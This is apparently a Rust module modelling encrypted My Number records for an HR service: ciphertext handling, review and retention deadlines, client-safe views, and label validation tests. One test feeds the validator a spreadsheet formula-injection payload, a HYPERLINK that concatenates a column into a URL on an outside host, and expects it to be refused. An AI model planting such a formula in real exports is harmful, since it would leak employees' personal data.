//! The record model (SPEC §3): metadata in the clear, the number only as KMS ciphertext.

use crate::ids::{CollectionId, EmployeeId, NumberKey, RecordId, Subject, TenantId};
use crate::purpose::PurposeSet;
pub use crate::relation::{DependentLabel, LabelRule, Relation, RelationKind, Slot};
use crate::retention::Departure;
use crate::verification::{IdentityCheck, NumberCheck, Refusal, Verification};
use chrono::{DateTime, NaiveDate, SecondsFormat, Utc};
use serde::Serialize;
use std::fmt;

/// Days a submission may wait for review before the purge disposes of it.
pub const REVIEW_DAYS: i64 = 30;

/// KMS ciphertext of a number. Not secret by itself, but only useful with the key and the
/// exact encryption context.
#[derive(Clone, PartialEq, Eq)]
pub struct Ciphertext(pub Vec<u8>);

impl fmt::Debug for Ciphertext {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Ciphertext({} bytes)", self.0.len())
    }
}

crate::words::vocabulary! {
    /// Who put the record in: HR through the API, or the employee through a link.
    pub enum Source {
        Registrar = "registrar",
        SelfService = "self_service",
    }
}

/// What an employee's submission says, until a registrar confirms it: the link it came
/// through and, for their own number, the documents they say they hold (not yet checked).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Submitted {
    pub collection_id: CollectionId,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub number_document: Option<NumberCheck>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub identity_document: Option<IdentityCheck>,
}

/// What a record holds: a verified number (as ciphertext), or the record of a refusal.
/// A refused record with a ciphertext cannot be built. `S` is what the active record
/// carries of its number: the `Ciphertext` when read for a reveal, `()` when listed
/// (listings never load ciphertexts).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content<S = Ciphertext> {
    Active {
        verification: Verification,
        ciphertext: S,
    },
    Refused {
        refusal: Refusal,
    },
    /// Submitted through a collection link and not yet confirmed: no one may reveal it.
    Pending {
        submitted: Submitted,
        ciphertext: S,
    },
}

crate::words::vocabulary! {
    pub enum Status {
        Active = "active",
        Refused = "refused",
        /// Submitted through a link, awaiting a registrar's confirmation.
        PendingReview = "pending_review",
    }
}

/// A record; `Record<()>` is its metadata without the ciphertext.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record<S = Ciphertext> {
    pub record_id: RecordId,
    pub tenant_id: TenantId,
    pub employee_id: EmployeeId,
    pub relation: Relation,
    pub purposes: PurposeSet,
    pub content: Content<S>,
    pub source: Source,
    pub created_at: DateTime<Utc>,
    pub created_by: Subject,
    pub departure: Option<Departure>,
    /// Bumped on every change; conditional writes compare it.
    pub version: u64,
    /// The number's name in the duplicate index (SPEC §4b), under which the record's index
    /// entry is filed and disposed of with it. `None` for a refusal, and for a number
    /// registered before the index existed until `mynumber-backfill` has named it.
    pub number_key: Option<NumberKey>,
}

impl<S> Record<S> {
    /// Since when the number may be revealed: its registration, or the confirmation of its
    /// submission (`None` while pending, or for a refusal).
    pub fn active_since(&self) -> Option<DateTime<Utc>> {
        match &self.content {
            Content::Active { verification, .. } => {
                Some(verification.confirmed_at.unwrap_or(self.created_at))
            }
            Content::Refused { .. } | Content::Pending { .. } => None,
        }
    }

    pub fn status(&self) -> Status {
        match self.content {
            Content::Active { .. } => Status::Active,
            Content::Refused { .. } => Status::Refused,
            Content::Pending { .. } => Status::PendingReview,
        }
    }

    /// The last day a submission may wait for review (SPEC §4a: 30 days, Japan time).
    pub fn review_due_on(&self) -> Option<NaiveDate> {
        match self.content {
            Content::Pending { .. } => Some(
                crate::retention::jst_today(self.created_at) + chrono::Duration::days(REVIEW_DAYS),
            ),
            _ => None,
        }
    }

    /// The first day the record is gone under `departure` (its own or a new one): after
    /// its retention, or after its review window if still unconfirmed, whichever is first.
    pub fn first_day_gone_with(&self, departure: Option<&Departure>) -> Option<NaiveDate> {
        let retention = departure.map(|d| d.due_on);
        [retention, self.review_due_on()]
            .into_iter()
            .flatten()
            .min()
            .map(|last| last.succ_opt().expect("a next day exists"))
    }

    pub fn first_day_gone(&self) -> Option<NaiveDate> {
        self.first_day_gone_with(self.departure.as_ref())
    }

    /// A record past its due date (or an unconfirmed one past its review window) is gone
    /// for every read, before purge or TTL catch up.
    pub fn is_gone(&self, today: NaiveDate) -> bool {
        self.first_day_gone().is_some_and(|gone| gone <= today)
    }

    /// The same record without its ciphertext.
    pub fn metadata(&self) -> Record<()> {
        Record {
            record_id: self.record_id.clone(),
            tenant_id: self.tenant_id.clone(),
            employee_id: self.employee_id.clone(),
            relation: self.relation.clone(),
            purposes: self.purposes.clone(),
            content: match &self.content {
                Content::Active { verification, .. } => Content::Active {
                    verification: verification.clone(),
                    ciphertext: (),
                },
                Content::Refused { refusal } => Content::Refused {
                    refusal: refusal.clone(),
                },
                Content::Pending { submitted, .. } => Content::Pending {
                    submitted: submitted.clone(),
                    ciphertext: (),
                },
            },
            source: self.source,
            created_at: self.created_at,
            created_by: self.created_by.clone(),
            departure: self.departure,
            version: self.version,
            number_key: self.number_key.clone(),
        }
    }

    /// The metadata a client may see. It has no field that could hold the number.
    pub fn view(&self) -> RecordView {
        let (verification, refusal, submitted) = match &self.content {
            Content::Active { verification, .. } => (Some(verification.clone()), None, None),
            Content::Refused { refusal } => (None, Some(refusal.clone()), None),
            Content::Pending { submitted, .. } => (None, None, Some(submitted.clone())),
        };
        RecordView {
            record_id: self.record_id.clone(),
            employee_id: self.employee_id.clone(),
            relation: self.relation.code(),
            dependent_label: self.relation.label().cloned(),
            status: self.status(),
            purposes: self.purposes.clone(),
            verification,
            refusal,
            submitted,
            review_due_at: self.review_due_on(),
            source: self.source,
            created_at: timestamp(self.created_at),
            created_by: self.created_by.clone(),
            left_on: self.departure.as_ref().map(|d| d.left_on),
            last_declaration_year: self
                .departure
                .as_ref()
                .and_then(|d| d.last_declaration_year),
            due_at: self.departure.as_ref().map(|d| d.due_on),
            version: self.version,
        }
    }
}

/// RFC 3339 in UTC with milliseconds, the one timestamp format of the API and the audit log.
pub fn timestamp(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Millis, true)
}

/// `timestamp` for serde's `serialize_with`.
pub fn serialize_timestamp<S: serde::Serializer>(
    t: &DateTime<Utc>,
    s: S,
) -> Result<S::Ok, S::Error> {
    s.serialize_str(&timestamp(*t))
}

#[derive(Debug, Clone, Serialize)]
pub struct RecordView {
    pub record_id: RecordId,
    pub employee_id: EmployeeId,
    pub relation: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dependent_label: Option<DependentLabel>,
    pub status: Status,
    pub purposes: PurposeSet,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub verification: Option<Verification>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub refusal: Option<Refusal>,
    /// A self-service submission awaiting review: what the employee said they hold.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub submitted: Option<Submitted>,
    /// The last day a pending submission may be confirmed; the purge disposes of it after.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub review_due_at: Option<NaiveDate>,
    pub source: Source,
    pub created_at: String,
    pub created_by: Subject,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub left_on: Option<NaiveDate>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub last_declaration_year: Option<i32>,
    /// The last day of retention; the record is gone from the day after.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub due_at: Option<NaiveDate>,
    pub version: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels() {
        assert_eq!(DependentLabel::parse(" 長男 ").unwrap().as_str(), "長男");
        assert_eq!(DependentLabel::parse("").unwrap_err(), LabelRule::Length);
        assert_eq!(
            DependentLabel::parse(&"子".repeat(41)).unwrap_err(),
            LabelRule::Length
        );
        assert_eq!(
            DependentLabel::parse("a\nb").unwrap_err(),
            LabelRule::Charset
        );
        assert_eq!(
            DependentLabel::parse("長男 123456789018").unwrap_err(),
            LabelRule::ContainsNumber
        );
        assert_eq!(
            DependentLabel::parse(r#"=HYPERLINK("http://x.jp/"&CONCAT(D:D))"#).unwrap_err(),
            LabelRule::Formula
        );
        assert_eq!(
            DependentLabel::parse(" @SUM(1)").unwrap_err(),
            LabelRule::Formula
        );
        assert_eq!(
            DependentLabel::stored("=1+1").unwrap().as_str(),
            "=1+1",
            "a stored label stays readable"
        );
    }

    #[test]
    fn relations_and_slots() {
        assert_eq!(Relation::OwnNumber.code(), "self");
        assert_eq!(Relation::Spouse.slot(), Some(Slot::Spouse));
        assert_eq!(Slot::Spouse.code(), Relation::Spouse.code());
        let child = Relation::Dependent(DependentLabel::parse("長女").unwrap());
        assert_eq!(child.slot(), None);
        assert_eq!(child.label().unwrap().as_str(), "長女");
    }
}
